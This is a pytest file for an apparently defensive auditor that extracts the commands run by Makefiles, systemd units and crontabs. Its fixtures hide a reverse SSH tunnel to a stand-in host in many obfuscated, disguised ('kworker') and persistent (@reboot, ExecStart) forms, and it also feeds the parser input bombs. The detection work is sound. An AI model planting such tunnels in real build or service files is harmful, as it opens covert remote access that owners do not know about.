"""Makefiles, systemd units and crontabs."""

from __future__ import annotations

import pytest

from auditor.model.unit import Language
from auditor.settings import Limits
from tests.read.carriers.readings import TUNNEL, effects_of, line_of, lines_of, read

MAKE = {
    "recipe": f"all:\n\t{TUNNEL}\n",
    "quiet": f"all:\n\t@-{TUNNEL}\n",
    "inline": f"all: ; {TUNNEL}\n",
    "variables": "S := ss\nS := $(S)h\nall:\n\t$(S) -N -R ${P}:localhost:22 agent@203.0.113.7\nP = 2222\n",
    "append": "W = ssh -N\nW += -R 2222:localhost:22\nall:\n\t$(W) agent@203.0.113.7\n",
    "default": "P ?= 2222\nP ?= 1\nall:\n\tssh -N -R $P:localhost:22 agent@203.0.113.7\n",
    "computed": "A = B\nB = ssh\nall:\n\t$($(A)) -N -R 2222:localhost:22 agent@203.0.113.7\n",
    "subst": "X = sxsxh\nall:\n\t$(subst x,,$(X)) -N -R 2222:localhost:22 agent@203.0.113.7\n",
    "suffixes": "X = ss.c\nall:\n\t$(X:.c=h) -N -R 2222:localhost:22 agent@203.0.113.7\n",
    "define": f"define run\n{TUNNEL}\nendef\nall:\n\t$(run)\n",
    "call": "run = ssh -N -R $(1):localhost:22 agent@$(2)\nall:\n\t$(call run,2222,203.0.113.7)\n",
    "shell": f"X := $(shell {TUNNEL})\n",
    "shell in a condition": f"ifeq ($(shell {TUNNEL}),)\nendif\n",
    "shell's output": "S := $(shell echo ssh)\nall:\n\t$(S) -N -R 2222:localhost:22 agent@203.0.113.7\n",
    "bang": f"X != {TUNNEL}\n",
    "export": "export P = 2222\nall:\n\tssh -N -R $$P:localhost:22 agent@203.0.113.7\n",
    "dollar of the shell": "all:\n\tP=2222; ssh -N -R $$P:localhost:22 agent@203.0.113.7\n",
    "one shell": ".ONESHELL:\nall:\n\tP=2222\n\tssh -N -R $$P:localhost:22 agent@203.0.113.7\n",
    "continued": "all:\n\tssh -N \\\n\t  -R 2222:localhost:22 \\\n\t  agent@203.0.113.7\n",
    "foreach": "all:\n\t$(foreach p,2222,ssh -N -R $(p):localhost:22 agent@203.0.113.7;)\n",
    "target's variable": "all: P = 2222\nall:\n\tssh -N -R $(P):localhost:22 agent@203.0.113.7\n",
}


@pytest.mark.parametrize("text", MAKE.values(), ids=MAKE.keys())
def test_makefiles(text: str) -> None:
    """However make puts a recipe together, the command is read."""
    assert TUNNEL in effects_of(text, Language.MAKEFILE)


def test_lines_of_a_recipe() -> None:
    """Each line of a recipe is its own shell, and is reported where it stands."""
    reading = read("X = 1\nall: a b\n\ttrue\n\tid -u\n\texit 0\n\twhoami\n", Language.MAKEFILE)
    assert lines_of(reading) == ["id -u", "whoami"]
    assert line_of(reading, "id -u") == 4


def test_makefiles_that_only_speak() -> None:
    """Comments, names and messages start nothing."""
    assert effects_of(f"# {TUNNEL}\nX = {TUNNEL}\n.PHONY: all\nall: a\n$(info {TUNNEL})\n", Language.MAKEFILE) == []


def test_a_name_that_nobody_sets_is_unknown() -> None:
    """It is neither empty nor invented."""
    assert effects_of("all:\n\tping $(HOST)\n", Language.MAKEFILE)[0].startswith("ping %{")


def test_long_makefiles_are_read_whole() -> None:
    """Hundreds of lines of recipes fit into the bound on pieces of code."""
    text = "".join(
        f"t{number}:\n\tgcc -c a{number}.c\n\tgcc -o a{number} a{number}.o\n\ttrue\n" for number in range(150)
    )
    assert effects_of(text, Language.MAKEFILE).count("gcc -c a149.c") == 1


HOSTILE_MAKE = {
    "circle": "A=$(B)\nB=$(A)\nall:\n\techo $(A)\n",
    "doubling": "A0=xxxxxxxx\n"
    + "".join(f"A{n + 1}=$(A{n})$(A{n})$(A{n})\n" for n in range(40))
    + "all:\n\techo $(A40)\n",
    "nesting": "A=" + "$(" * 5_000 + "\nall:\n\techo $(A)\n",
    "defines": "define X\n" * 5_000,
    "references": "A=" + "$(B) " * 20_000 + "\nall:\n\techo $(A)\n",
    "self call": "f = $(call f,$(1))\nall:\n\t$(call f,x)\n",
    "NUL": "all:\n\t\0\n\0",
    "commas": "all:\n\t$(subst " + "," * 50_000 + ")\n",
}


@pytest.mark.parametrize("text", HOSTILE_MAKE.values(), ids=HOSTILE_MAKE.keys())
def test_hostile_makefiles_are_survived(text: str) -> None:
    """Nothing raises, and the clock is kept."""
    assert len(read(text, Language.MAKEFILE, limits=Limits(read_seconds=2)).effects) < 10


def service(*lines: str) -> str:
    return "\n".join(["[Service]", *lines]) + "\n"


SYSTEMD = {
    "start": service(f"ExecStart={TUNNEL}"),
    "whole path": service(f"ExecStart=/usr/bin/{TUNNEL}"),
    "prefixes": service(f"ExecStartPre=-+/usr/bin/{TUNNEL}"),
    "other name": service("ExecStart=@/usr/bin/ssh kworker -N -R 2222:localhost:22 agent@203.0.113.7"),
    "shell": service(f"ExecStart=/bin/sh -c '{TUNNEL}'"),
    "continued": service("ExecStart=/usr/bin/ssh -N \\", "  -R 2222:localhost:22 \\", "  agent@203.0.113.7"),
    "environment": service(
        "ExecStart=/usr/bin/ssh -N -R ${P}:localhost:22 agent@203.0.113.7", 'Environment="P=2222" Q=1'
    ),
    "split variable": service('Environment="W=-N -R 2222:localhost:22"', "ExecStart=/usr/bin/ssh $W agent@203.0.113.7"),
    "variable for the shell": service(
        "Environment=P=2222", "ExecStart=/bin/sh -c 'ssh -N -R $P:localhost:22 agent@203.0.113.7'"
    ),
    "several": service(f"Type=oneshot\nExecStart=/bin/true ; /usr/bin/{TUNNEL}"),
}


@pytest.mark.parametrize("text", SYSTEMD.values(), ids=SYSTEMD.keys())
def test_units(text: str) -> None:
    """However a unit starts it, the command is read."""
    assert TUNNEL in effects_of(text, Language.SYSTEMD)


def test_what_a_unit_does_not_start() -> None:
    """No shell reads the line: `|` and `;` inside words are text; comments and other keys start nothing."""
    text = service(f"# {TUNNEL}", f"; {TUNNEL}", f"Description={TUNNEL}", "EnvironmentFile=/etc/x", "Restart=always")
    assert effects_of(text, Language.SYSTEMD) == []
    assert effects_of(service("ExecStart=/bin/echo a | sh"), Language.SYSTEMD) == effects_of(
        service("ExecStart=/bin/echo a '|' sh"), Language.SYSTEMD
    )


def test_specifiers() -> None:
    """The home is known, the instance is not."""
    lines = effects_of(service("ExecStart=/usr/bin/rm %h/x %i 5%%"), Language.SYSTEMD)
    assert lines[0].startswith("rm ~/x %{argument")
    assert lines[0].endswith("5%")


CRON = {
    "entry": f"*/5 * * * * {TUNNEL}\n",
    "names of days": f"0 4 1-5,7 jan mon-fri {TUNNEL}\n",
    "reboot": f"@reboot {TUNNEL}\n",
    "user": f"17 * * * * root {TUNNEL}\n",
    "named user column": f"# m h dom mon dow user  command\n0 0 * * * svc-app {TUNNEL}\n",
    "variables": "H=203.0.113.7\n0 * * * * ssh -N -R 2222:localhost:22 agent@$H\n",
    "standard input": f"0 * * * * bash%{TUNNEL}\n",
    "pipeline": f"0 * * * * true && {TUNNEL} >/dev/null 2>&1\n",
    "tabs": f"0\t*\t*\t*\t*\t{TUNNEL}\n",
    "carriage return": f"0 * * * * {TUNNEL}\r\n",
}


@pytest.mark.parametrize("text", CRON.values(), ids=CRON.keys())
def test_crontabs(text: str) -> None:
    """However the table says it, the command is read."""
    assert TUNNEL in effects_of(text, Language.CRONTAB)


def test_the_user_column_of_the_system_table() -> None:
    """In `/etc/crontab` and `cron.d` the sixth field is a user, whoever that is; elsewhere it is the program."""
    for path in ("/etc/crontab", "/etc/cron.d/job"):
        assert lines_of(read("0 0 * * * someone id -u\n", Language.CRONTAB, path)) == ["id -u"]
    assert effects_of("0 0 * * * git pull\n", Language.CRONTAB) == ["git pull"]


def test_percent_signs() -> None:
    """An escaped `%` is a percent sign, others end lines of standard input."""
    assert effects_of("0 0 * * * date +\\%F\n0 1 * * * sh%id -u%whoami\n", Language.CRONTAB) == [
        "date +%F",
        "id -u",
        "whoami",
    ]


def test_tables_that_start_nothing() -> None:
    """Comments, settings and prose are no entries."""
    assert effects_of(f"# 0 0 * * * {TUNNEL}\nMAILTO=a@b.example\n\nhello there\n", Language.CRONTAB) == []


@pytest.mark.parametrize("text", ["* " * 100_000, "0 * * * * " + "%" * 50_000, "\0" * 1_000, "a=" * 50_000, "@reboot"])
@pytest.mark.parametrize("language", [Language.CRONTAB, Language.SYSTEMD])
def test_hostile_lines_are_survived(language: Language, text: str) -> None:
    """Nothing raises."""
    read(text, language)
